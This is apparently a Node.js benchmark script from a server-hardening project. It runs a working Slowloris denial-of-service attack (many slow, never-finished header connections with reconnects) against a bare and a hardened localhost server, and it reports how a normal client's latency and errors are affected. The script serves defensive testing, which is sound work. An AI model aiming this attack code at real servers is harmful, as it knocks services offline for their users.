// Slowloris against a bare and a hardened server (issue 13): ATTACK connections from 127.0.0.3 each send a request
// line and then one header line a second, never finishing, and reconnect when closed (as slowhttptest does); a
// normal client on 127.0.0.2 (its own address, as on a real network) meanwhile sends GETs: 8 workers on keep-alive
// connections and 2 opening a new connection per request. Reports the attack connections the server holds over
// time, and the normal client's latency and errors. Usage: node slowloris.mjs [attack=2000] [seconds=20]
// [reconnect-ms=1000]
// (after `npm run build` in the root; the server processes are roles.mjs `http` and `hardened`, its defaults)
import http from 'node:http';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { killChildren, role } from './children.mjs';

const ATTACK = Number(process.argv[2] ?? 2000);
const SECONDS = Number(process.argv[3] ?? 20);
/** How soon a closed attack connection is replaced: 0 is a flood, 1000 ms is slowhttptest's pace. */
const RECONNECT_MS = Number(process.argv[4] ?? 1000);
const percentile = (xs, p) => {
  const sorted = [...xs].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? Number.NaN;
};

function attack(port, until) {
  const state = { open: 0, opened: 0, answered408: 0, closedByServer: 0 };
  const sockets = new Set();
  const one = () => {
    if (performance.now() > until) return;
    const socket = net.connect({ port, host: '127.0.0.1', localAddress: '127.0.0.3' });
    sockets.add(socket);
    state.opened++;
    let text = '';
    let drip;
    let connected = false;
    socket.on('connect', () => {
      connected = true;
      state.open++;
      socket.write('GET / HTTP/1.1\r\nHost: x\r\n');
      let n = 0;
      drip = setInterval(() => socket.write(`X-${n++}: a\r\n`), 1000);
    });
    socket.on('data', (c) => (text += c));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(drip);
      sockets.delete(socket);
      if (connected) state.open--;
      if (text.startsWith('HTTP/1.1 408')) state.answered408++;
      state.closedByServer++;
      setTimeout(one, RECONNECT_MS); // reconnect, as an attacker does
    });
  };
  for (let i = 0; i < ATTACK; i++) one();
  return {
    state,
    stop: () => {
      for (const s of sockets) {
        s.removeAllListeners('close');
        s.destroy();
      }
    },
  };
}

async function normalClient(port, until) {
  const latencies = { keepAlive: [], fresh: [] };
  let errors = 0;
  const agent = new http.Agent({ keepAlive: true, localAddress: '127.0.0.2', maxSockets: 8 });
  const get = (kind) =>
    new Promise((resolve) => {
      const started = performance.now();
      http
        .get(
          {
            port,
            host: '127.0.0.1',
            agent: kind === 'keepAlive' ? agent : false,
            localAddress: '127.0.0.2',
            timeout: 5000,
          },
          (res) => {
            res.resume();
            res.on('end', () => {
              if (res.statusCode === 200) latencies[kind].push(performance.now() - started);
              else errors++;
              resolve();
            });
          },
        )
        .on('timeout', function () {
          this.destroy(new Error('timeout'));
        })
        .on('error', () => {
          errors++;
          resolve();
        });
    });
  const worker = async (kind) => {
    while (performance.now() < until) {
      await get(kind);
      await sleep(5); // a client with think time, not a load generator
    }
  };
  await Promise.all([
    ...Array.from({ length: 8 }, () => worker('keepAlive')),
    worker('fresh'),
    worker('fresh'),
  ]);
  agent.destroy();
  return { latencies, errors };
}

const rows = [];
console.log(
  `Node ${process.version}: ${ATTACK} attack connections, ${SECONDS} s, closed ones replaced after ${RECONNECT_MS} ms`,
);
try {
  for (const kind of ['http', 'hardened']) {
    const server = await role(kind);
    const until = performance.now() + SECONDS * 1000;
    const { state, stop } = attack(server.port, until);
    const held = [];
    const sampler = setInterval(() => {
      held.push(state.open);
      process.stderr.write(`${kind} ${held.length * 5} s: ${state.open} attack connections open\n`);
    }, 5000);
    const normal = await normalClient(server.port, until);
    clearInterval(sampler);
    stop();
    server.child.kill('SIGKILL');
    const ms = (x) => `${x.toFixed(1)} ms`;
    const row = {
      kind,
      held: held.join(' / '),
      opened: state.opened,
      answered408: state.answered408,
      keepAlive: `${normal.latencies.keepAlive.length} ok, p50 ${ms(percentile(normal.latencies.keepAlive, 50))}, p99 ${ms(percentile(normal.latencies.keepAlive, 99))}`,
      fresh: `${normal.latencies.fresh.length} ok, p50 ${ms(percentile(normal.latencies.fresh, 50))}, p99 ${ms(percentile(normal.latencies.fresh, 99))}`,
      errors: normal.errors,
    };
    rows.push(row);
    console.log(JSON.stringify(row));
  }
  console.log(
    `\n| server | attack connections held at 5/10/15/20 s | attack connections opened | 408s sent to the attack | normal client, keep-alive | normal client, new connection per request | normal client errors |`,
  );
  console.log('|---|---|---:|---:|---|---|---:|');
  for (const r of rows)
    console.log(
      `| ${r.kind === 'http' ? 'bare Node' : 'harden() defaults'} | ${r.held} | ${r.opened} | ${r.answered408} | ${r.keepAlive} | ${r.fresh} | ${r.errors} |`,
    );
} finally {
  killChildren();
}
